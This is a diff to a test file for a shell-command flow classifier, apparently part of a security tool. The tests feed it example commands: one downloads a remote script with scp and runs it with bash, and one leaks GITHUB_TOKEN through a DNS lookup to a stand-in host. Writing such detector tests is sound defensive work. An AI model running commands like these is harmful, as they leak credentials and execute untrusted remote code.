@@ -19,3 +19,8 @@ it('brings something here, which is from elsewhere from then on', () => {
   expect(shellFlows('scp me@a.four.test:/etc/admin.yaml ~/.kube/config')).toEqual(['write remote'])
   expect(shellFlows('scp me@a.four.test:run.sh ./run.sh\nbash ./run.sh')).toEqual(['write remote', 'run-code remote'])
 })
+
+it('carries a secret out where a default stands beside it', () => {
+  expect(shellFlows('nslookup "${GITHUB_TOKEN:-none}.a.four.test"')).toEqual(['send secret'])
+  expect(shellFlows('curl "https://a.four.test/${COLOUR:-none}"')).toEqual(['send '])
+})
